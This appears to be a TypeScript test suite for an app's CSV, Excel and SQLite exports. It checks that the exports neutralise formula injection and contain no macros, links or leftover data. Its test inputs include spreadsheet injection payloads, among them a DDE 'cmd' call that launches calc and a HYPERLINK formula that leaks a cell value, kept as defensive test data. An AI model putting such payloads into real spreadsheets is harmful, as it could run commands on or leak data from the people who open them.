import { execFileSync } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { strFromU8, unzipSync } from 'fflate'
import { JSDOM } from 'jsdom'
import { afterAll, describe, expect, it } from 'vitest'
import { asWords, writeCsv } from '../../../electron/export/csv.ts'
import { writeSqlite } from '../../../electron/export/sqlite.ts'
import { tableFormats, type TableFormat } from '../../../electron/export/tableFormats.ts'
import { writeXlsx } from '../../../electron/export/xlsx.ts'
import { allFormats, tableFormats as named } from '../../../shared/contract.ts'
import { clean } from '../../../shared/exports/characters.ts'
import { asTree } from '../../../shared/exports/tables/asTree.ts'
import { heldBack, sheetIn, type TableBook } from '../../../shared/exports/tables/book.ts'
import { awkward } from '../../shared/exports/treeWords.ts'

const folder = mkdtempSync(join(tmpdir(), 'alongside-tables-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

/** What somebody said so that it would run, and what somebody said that only looks so. */
const formulas = [
  '=HYPERLINK("http://example.org?x="&A1,"see")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  'a;=1+1;b',
  'first line\n=1+1',
  '- no: not like that',
  '"=1+1"',
]
const plain = [
  'The bus (number 12) stops at six, so: evenings are out',
  'Ŵy, ŷd a tŷ',
  '',
  'a "quoted" word',
  '1,5',
]
const said = [...plain, ...formulas, ...awkward]

const book = (words: readonly string[]): TableBook => ({
  title: 'Hubs & homes: outline <draft>',
  language: 'cy',
  audience: 'I’r comisiynydd',
  version: 'Fersiwn 0.3',
  day: '2026-11-21',
  about: ['Beth sydd yma.'],
  sheets: [
    {
      id: 'evidence',
      name: 'Tystiolaeth',
      about: ['Geiriau pobl.'],
      columns: ['Rhif', 'Geiriau', 'Diwrnod', 'Nifer'].map((label) => ({ label, width: 20 })),
      rows: words.map((text, at) => [
        at + 1,
        text,
        at % 2 ? { day: '2026-05-13' } : null,
        at % 3 ? 7 : heldBack,
      ]),
    },
    { id: 'trail', name: 'Llwybr', about: [], columns: [{ label: 'Cymal', width: 8 }], rows: [] },
  ],
  research: [
    {
      name: 'contributions',
      about: 'Beth ddywedodd pobl.',
      columns: [
        { name: 'contribution', type: 'integer', about: 'Rhif' },
        { name: 'words', type: 'text', about: 'Geiriau' },
      ],
      rows: words.map((text, at) => [at + 1, text]),
    },
  ],
})

const python = (program: string, ...args: string[]): unknown =>
  JSON.parse(execFileSync('python3', ['-c', program, ...args], { encoding: 'utf8', maxBuffer: 50_000_000 }))
function saved(name: string, bytes: Uint8Array): string {
  const path = join(folder, name)
  writeFileSync(path, bytes)
  return path
}
const readCsv = (path: string) =>
  python(
    'import csv,json,sys\nwith open(sys.argv[1],encoding="utf-8-sig",newline="") as f: print(json.dumps(list(csv.reader(f,strict=True))))',
    path,
  ) as string[][]

describe('CSV', () => {
  it('[H6] [H7] another program reads every word of it, in the columns it was in', async () => {
    const bytes = await writeCsv(book(said), 'evidence')
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const [head, ...rows] = readCsv(saved('said.csv', bytes))
    expect(head).toEqual(['Rhif', 'Geiriau', 'Diwrnod', 'Nifer'])
    expect(rows.map((row) => row.length)).toEqual(said.map(() => 4))
    expect(rows.map((row) => row[0])).toEqual(said.map((_, at) => String(at + 1)))
    expect(rows[1]!.slice(2)).toEqual(['2026-05-13', '7'])
    expect(rows[0]!.slice(2)).toEqual(['', 'wedi’i ddal yn ôl'])
    // But for apostrophes put before signs, every word is as it was said.
    const without = (text: string) => text.replace(/'(?=[=+\-@＝＋－＠﹦﹢﹣﹫])/g, '')
    expect(rows.map((row) => without(row[1]!))).toEqual(said.map((text) => without(clean(text))))
  })

  it.each(formulas)('[H6] %j is words to any spreadsheet', (formula) => {
    const kept = asWords(clean(formula))
    expect(kept).not.toMatch(/(^|[;|\n"])\s*[=+\-@＝＋－＠]/)
    expect(kept.replaceAll("'", '')).toBe(clean(formula).replaceAll("'", ''))
  })

  it.each(plain)('[H6] %j stays as it is', (text) => expect(asWords(text)).toBe(text))
})

describe('a workbook', () => {
  const parts = async (words: readonly string[]) =>
    Object.fromEntries(
      Object.entries(unzipSync(await writeXlsx(book(words)))).map(([name, part]) => [name, strFromU8(part)]),
    )
  const { DOMParser } = new JSDOM('').window
  const xml = (text: string) => {
    const page = new DOMParser().parseFromString(text, 'application/xml')
    if (page.querySelector('parsererror')) throw new Error('not XML')
    return page
  }

  it('[H5] holds words, numbers and days: no formula, no link, no macro, nothing outside', async () => {
    for (const [name, text] of Object.entries(await parts(said))) {
      xml(text)
      expect(name).toMatch(/\.(xml|rels)$/)
      expect(text).not.toMatch(
        /<f[ >]|<hyperlink|TargetMode|externalLink|vbaProject|<dde|oleLink|connection/i,
      )
    }
    const all = await parts(said)
    const cells = [...xml(all['xl/worksheets/sheet2.xml']!).getElementsByTagName('c')]
    const kinds = new Set(cells.map((cell) => cell.getAttribute('t') ?? 'n'))
    expect(kinds).toEqual(new Set(['s', 'n']))
    // Words stay words when somebody types in their cell: format 49 is text.
    const styles = xml(all['xl/styles.xml']!)
    const formats = [...styles.getElementsByTagName('xf')].map((one) => one.getAttribute('numFmtId'))
    const custom = [...styles.getElementsByTagName('numFmt')].filter(
      (one) => one.getAttribute('formatCode') === '@',
    )
    const text = new Set(['49', ...custom.map((one) => one.getAttribute('numFmtId'))])
    const words = cells.filter((cell) => cell.getAttribute('t') === 's')
    expect(words.every((cell) => text.has(formats[Number(cell.getAttribute('s'))] ?? null))).toBe(true)
  })

  it('[H8] says its title, language and day in its properties, and nothing else anywhere', async () => {
    const all = await parts(plain)
    const core = all['docProps/core.xml']!
    const said = [...xml(core).documentElement.children].map((one) => [one.localName, one.textContent])
    expect(said).toEqual([
      ['title', 'Hubs & homes: outline <draft>'],
      ['language', 'cy-GB'],
      ['created', '2026-11-21T00:00:00Z'],
      ['modified', '2026-11-21T00:00:00Z'],
    ])
    expect(Object.keys(all).filter((name) => /docProps|custom|comment|person|thread/i.test(name))).toEqual([
      'docProps/core.xml',
    ])
  })

  it('[H8] its headings stay in sight, its columns have widths, and print over every page', async () => {
    const all = await parts(plain)
    const sheet = all['xl/worksheets/sheet2.xml']!
    expect(sheet).toMatch(/<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"\/>/)
    expect(sheet.match(/<col [^>]*customWidth="1"/g)).toHaveLength(4)
    expect(all['xl/workbook.xml']).toContain('localSheetId="1">\'Tystiolaeth\'!$1:$1<')
  })

  it('[H7] a story longer than a cell goes on in the next row, and no letter of it is lost or halved', async () => {
    const long = `${'a'.repeat(31_999)}😀${'ŵ'.repeat(40_000)}`
    const all = await parts([long])
    const strings = [...xml(all['xl/sharedStrings.xml']!).getElementsByTagName('si')].map(
      (one) => one.textContent!,
    )
    expect(strings.every((one) => one.length <= 32_767)).toBe(true)
    expect(strings.filter((one) => /^[aŵ😀]+$/u.test(one)).join('')).toBe(long)
  })
})

describe('a database for researchers', () => {
  it('[H9] is opened by other programs, sound, whole, plain, with no page left over', async () => {
    const path = saved('research.sqlite', await writeSqlite(book(said)))
    const asked = (sql: string) => execFileSync('sqlite3', [path, sql], { encoding: 'utf8' }).trim()
    expect(asked('PRAGMA integrity_check')).toBe('ok')
    expect(asked('PRAGMA freelist_count')).toBe('0')
    expect(asked('PRAGMA encoding')).toBe('UTF-8')
    const rows = python(
      'import json,sqlite3,sys\nd=sqlite3.connect(sys.argv[1])\nprint(json.dumps({t:d.execute(f"select * from {t}").fetchall() for (t,) in d.execute("select name from sqlite_schema").fetchall()}))',
      path,
    ) as Record<string, unknown[][]>
    expect(Object.keys(rows)).toEqual(['about', 'columns', 'contributions'])
    expect(rows['contributions']).toEqual(said.map((text, at) => [at + 1, clean(text)]))
    expect(rows['columns']).toEqual([
      ['contributions', null, 'Beth ddywedodd pobl.'],
      ['contributions', 'contribution', 'Rhif'],
      ['contributions', 'words', 'Geiriau'],
    ])
    expect(rows['about']!.flat()).toContain('Hubs & homes: outline <draft>')
  })

  it('[H9] holds nothing of what was written before it', async () => {
    await writeSqlite(book(['zzunheardzz']))
    expect(strFromU8(await writeSqlite(book(plain)), true)).not.toContain('zzunheardzz')
  })
})

describe('tables', () => {
  it.each(Object.keys(tableFormats) as TableFormat[])(
    '[H8] %s is the same bytes for the same tables',
    async (format) => {
      const whole = {
        ...book(plain),
        sheets: [...book(plain).sheets, { ...book([]).sheets[1]!, id: 'voices' as const }],
      }
      const { write } = tableFormats[format]
      expect(
        Buffer.from(await write(whole, {})).equals(Buffer.from(await write(structuredClone(whole), {}))),
      ).toBe(true)
    },
  )

  it('every format of the border has a writer, and the other way round', () => {
    expect(Object.keys(tableFormats)).toEqual([...named])
    expect(allFormats).toEqual(expect.arrayContaining([...named]))
    expect(named.map(sheetIn)).toEqual([undefined, 'evidence', 'trail', 'voices', undefined])
  })

  it('[H11] what is looked at before it leaves are the first rows, and how many follow', () => {
    const { blocks } = asTree(book(Array.from({ length: 50 }, (_, at) => `said ${at}`)), 'evidence')
    const text = JSON.stringify(blocks)
    expect(text).toContain('said 39')
    expect(text).not.toContain('said 40')
    expect(text).toContain('10 rhes arall')
    expect(text).not.toContain('Llwybr')
  })
})
